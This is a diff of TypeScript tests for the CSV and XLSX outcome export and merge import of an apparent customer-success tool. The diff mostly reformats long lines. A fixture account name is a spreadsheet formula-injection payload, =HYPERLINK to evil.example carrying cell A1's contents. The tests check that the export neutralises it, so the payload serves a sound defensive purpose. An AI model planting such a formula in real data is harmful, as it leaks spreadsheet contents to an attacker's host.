@@ -17,12 +17,39 @@ const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 /** A small book: one succeeded intervention (with an evil account name), one failed, one control outcome. */
 function book(prefix = 'acc_', owner = 'ann@example.com'): Db {
   const { db } = tempDb();
-  const a = addAccount(db, { account_id: accountIdWhere(false, 'payment_failing', '2026-03-01', 0.1, `${prefix}a`), name: EVIL_NAME, arr: 12_345.5, currency: 'EUR', owner_email: owner });
-  const b = addAccount(db, { account_id: accountIdWhere(false, 'payment_failing', '2026-03-01', 0.1, `${prefix}b`), name: '+Plus GmbH', arr: 1000, owner_email: owner });
+  const a = addAccount(db, {
+    account_id: accountIdWhere(false, 'payment_failing', '2026-03-01', 0.1, `${prefix}a`),
+    name: EVIL_NAME,
+    arr: 12_345.5,
+    currency: 'EUR',
+    owner_email: owner,
+  });
+  const b = addAccount(db, {
+    account_id: accountIdWhere(false, 'payment_failing', '2026-03-01', 0.1, `${prefix}b`),
+    name: '+Plus GmbH',
+    arr: 1000,
+    owner_email: owner,
+  });
   const c = addAccount(db, { account_id: `${prefix}control`, name: 'Held Out Ltd', arr: 500, owner_email: owner });
-  const first = logIntervention(db, { accountId: a, triggerId: 'payment_failing', channel: 'email', templateId: 'pay-reminder', templateVersion: 3, notes: '@channel follow up', sentAt: '2026-03-02T09:00:00Z' }, GENERATED);
+  const first = logIntervention(
+    db,
+    {
+      accountId: a,
+      triggerId: 'payment_failing',
+      channel: 'email',
+      templateId: 'pay-reminder',
+      templateVersion: 3,
+      notes: '@channel follow up',
+      sentAt: '2026-03-02T09:00:00Z',
+    },
+    GENERATED,
+  );
   rateIntervention(db, first.intervention_id, 2, GENERATED);
-  logIntervention(db, { accountId: b, triggerId: 'payment_failing', channel: 'call', sentAt: '2026-03-03T09:00:00Z' }, GENERATED);
+  logIntervention(
+    db,
+    { accountId: b, triggerId: 'payment_failing', channel: 'call', sentAt: '2026-03-03T09:00:00Z' },
+    GENERATED,
+  );
   insertRiskItem(db, c, 'payment_failing', '2026-03-01', true);
   addEvent(db, a, 'payment_succeeded', '2026-03-05');
   for (const id of [a, b, c]) addMetric(db, id, 'active_users', '2026-03-04', 2);
@@ -47,8 +74,23 @@ describe('CSV export', () => {
     const evil = rows.find((r) => r.status === 'succeeded')!;
     expect(evil.account_name).toBe(`'${EVIL_NAME}`);
     expect(evil.notes).toBe("'@channel follow up");
-    expect(evil).toMatchObject({ arr: '12345.5', currency: 'EUR', start_on: '2026-03-02', outcome_on: '2026-03-05', days_to_success: '3', effort_rating: '2', template_id: 'pay-reminder', template_version: '3' });
-    const ranged = await exportOutcomes(db, { format: 'csv', asOf: '2026-04-01', from: '2026-03-02', to: '2026-03-02', generatedAt: GENERATED });
+    expect(evil).toMatchObject({
+      arr: '12345.5',
+      currency: 'EUR',
+      start_on: '2026-03-02',
+      outcome_on: '2026-03-05',
+      days_to_success: '3',
+      effort_rating: '2',
+      template_id: 'pay-reminder',
+      template_version: '3',
+    });
+    const ranged = await exportOutcomes(db, {
+      format: 'csv',
+      asOf: '2026-04-01',
+      from: '2026-03-02',
+      to: '2026-03-02',
+      generatedAt: GENERATED,
+    });
     expect(ranged.filename).toBe('foresight-outcomes_2026-03-02_to_2026-03-02.csv');
     expect(ranged.rows).toBe(1);
   });
@@ -67,7 +109,9 @@ describe('XLSX export', () => {
     const headers = (sheet.getRow(1).values as unknown[]).slice(1);
     const col = (name: string) => headers.indexOf(name) + 1;
     expect(sheet.rowCount).toBe(4);
-    const succeeded = [2, 3, 4].map((r) => sheet.getRow(r)).find((row) => row.getCell(col('status')).value === 'succeeded')!;
+    const succeeded = [2, 3, 4]
+      .map((r) => sheet.getRow(r))
+      .find((row) => row.getCell(col('status')).value === 'succeeded')!;
     const start = succeeded.getCell(col('start_on'));
     expect(start.type).toBe(ExcelJS.ValueType.Date);
     expect(start.value).toEqual(new Date('2026-03-02T00:00:00.000Z'));
@@ -82,7 +126,8 @@ describe('XLSX export', () => {
     expect(succeeded.getCell(col('days_to_success')).value).toBe(3);
     expect(succeeded.getCell(col('excluded_from_uplift')).value).toBe(false);
 
-    for (const ws of workbook.worksheets) ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+    for (const ws of workbook.worksheets)
+      ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
 
     const summary = workbook.getWorksheet('Summary')!;
     expect(summary.getCell('B2').value).toEqual(new Date('2026-04-01T00:00:00.000Z'));
@@ -117,11 +162,19 @@ describe('team-lead merge import', () => {
       ['bob.xlsx', 3, 3],
     ]);
     const snapshot = lead.prepare('SELECT * FROM imported_outcomes ORDER BY record_id').all();
-    const again = await importOutcomeFiles(lead, [...files, { name: 'ann-copy.csv', data: annCsv.data }], new Date('2026-04-02T00:00:00Z'));
+    const again = await importOutcomeFiles(
+      lead,
+      [...files, { name: 'ann-copy.csv', data: annCsv.data }],
+      new Date('2026-04-02T00:00:00Z'),
+    );
     expect(again).toMatchObject({ added: 0, updated: 0, unchanged: 9, rejected: 0 });
     expect(lead.prepare('SELECT * FROM imported_outcomes ORDER BY record_id').all()).toEqual(snapshot);
 
-    const merged = lead.prepare<[], { account_name: string; notes: string | null }>("SELECT account_name, notes FROM imported_outcomes WHERE status = 'succeeded' ORDER BY account_id").all();
+    const merged = lead
+      .prepare<[], { account_name: string; notes: string | null }>(
+        "SELECT account_name, notes FROM imported_outcomes WHERE status = 'succeeded' ORDER BY account_id",
+      )
+      .all();
     expect(merged.map((m) => m.account_name)).toEqual([EVIL_NAME, EVIL_NAME]);
     expect(merged[0]!.notes).toBe('@channel follow up');
 
@@ -137,19 +190,31 @@ describe('team-lead merge import', () => {
   it('does not import rows that are this book’s own, and rejects broken rows with a reason', async () => {
     const ann = book();
     const own = await exportOutcomes(ann, { format: 'csv', asOf: '2026-04-01', generatedAt: GENERATED });
-    expect(await importOutcomeFiles(ann, [{ name: 'own.csv', data: own.data }], GENERATED)).toMatchObject({ added: 0, unchanged: 3 });
+    expect(await importOutcomeFiles(ann, [{ name: 'own.csv', data: own.data }], GENERATED)).toMatchObject({
+      added: 0,
+      unchanged: 3,
+    });
 
     const { db: lead } = tempDb();
-    const broken = '\uFEFFrecord_id,cohort,account_id,trigger_id,status,start_on,effort_rating\r\nx1,treated,a,usage_drop,succeeded,2026-02-31,\r\nx2,test,a,usage_drop,failed,2026-02-01,\r\nx3,treated,a,usage_drop,failed,2026-02-01,9\r\nx4,treated,a,usage_drop,failed,2026-02-01,3\r\n';
-    const result = await importOutcomeFiles(lead, [{ name: 'broken.csv', data: new TextEncoder().encode(broken) }], GENERATED);
+    const broken =
+      '\uFEFFrecord_id,cohort,account_id,trigger_id,status,start_on,effort_rating\r\nx1,treated,a,usage_drop,succeeded,2026-02-31,\r\nx2,test,a,usage_drop,failed,2026-02-01,\r\nx3,treated,a,usage_drop,failed,2026-02-01,9\r\nx4,treated,a,usage_drop,failed,2026-02-01,3\r\n';
+    const result = await importOutcomeFiles(
+      lead,
+      [{ name: 'broken.csv', data: new TextEncoder().encode(broken) }],
+      GENERATED,
+    );
     expect(result).toMatchObject({ added: 1, rejected: 3 });
     expect(result.files[0]!.rejected).toEqual([
       { line: 2, reason: 'start_on "2026-02-31" is not a date (YYYY-MM-DD)' },
       { line: 3, reason: 'cohort must be treated or control, not "test"' },
       { line: 4, reason: 'effort_rating 9 is not from 1 to 7' },
     ]);
-    await expect(importOutcomeFiles(lead, [{ name: 'accounts.csv', data: new TextEncoder().encode('account_id,name\r\na,b\r\n') }], GENERATED)).rejects.toThrow(
-      /accounts.csv is not a Foresight outcome export/,
-    );
+    await expect(
+      importOutcomeFiles(
+        lead,
+        [{ name: 'accounts.csv', data: new TextEncoder().encode('account_id,name\r\na,b\r\n') }],
+        GENERATED,
+      ),
+    ).rejects.toThrow(/accounts.csv is not a Foresight outcome export/);
   });
 });
